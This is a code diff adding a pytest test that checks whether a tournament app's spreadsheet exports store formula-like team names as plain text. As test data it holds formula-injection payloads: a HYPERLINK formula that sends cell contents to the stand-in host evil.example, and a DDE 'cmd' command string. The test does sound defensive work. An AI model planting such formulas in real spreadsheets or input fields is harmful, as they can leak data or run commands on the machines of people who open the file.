@@ -91,3 +91,53 @@ def test_unknown_export_parameter_is_named(chinese_event):
     with pytest.raises(ExportError) as caught:
         StandingsXlsx(chinese_event, colour="red")
     assert caught.value.field == "colour"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+CMD = "=cmd|' /C calc'!A0"
+
+
+def _cells(data: bytes):
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets_xml = b"".join(
+            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
+        )
+    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as such
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    return sheets_xml, cells
+
+
+def test_formula_cells_written_as_text(chinese_event):
+    """A team named =HYPERLINK(…) and a unit =cmd|… are text cells (quote-prefixed) in the
+    public standings and pairings spreadsheets; no cell is a formula; numbers stay numbers."""
+    from tournaments.models import Team
+
+    first, second = chinese_event.teams_in_order[:2]
+    Team.objects.filter(pk=first.pk).update(name=HYPERLINK)
+    first.unit.name = CMD
+    first.unit.save()
+    Team.objects.filter(pk=second.pk).update(name="+1-2")
+    others = {"@SUM(A1)", "-3+4", "\tTAB", "\rCR"}
+    for name, team in zip(sorted(others), chinese_event.teams_in_order[2:6], strict=True):
+        Team.objects.filter(pk=team.pk).update(name=name)
+    for export in (
+        StandingsXlsx(chinese_event).render(),
+        PairingsXlsx(chinese_event, round="1").render(),
+    ):
+        xml, cells = _cells(export.data)
+        assert b"<f>" not in xml and b"<f " not in xml
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        by_value = {cell.value: cell for cell in cells if cell.value is not None}
+        for value in (HYPERLINK, CMD, "+1-2", *others):
+            cell = by_value[value.replace("\r", "\n")]  # the name kept (XML reads CR as LF)
+            assert cell.data_type == "s" and cell.quotePrefix, value
+        numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
+        assert numbers and all(isinstance(value, int | float) for value in numbers)
+    book = workbook(StandingsXlsx(chinese_event).render().data)
+    rows = list(book["Final"].iter_rows(min_row=4, values_only=True))
+    assert all(isinstance(row[0], int) for row in rows)  # ranks are numbers
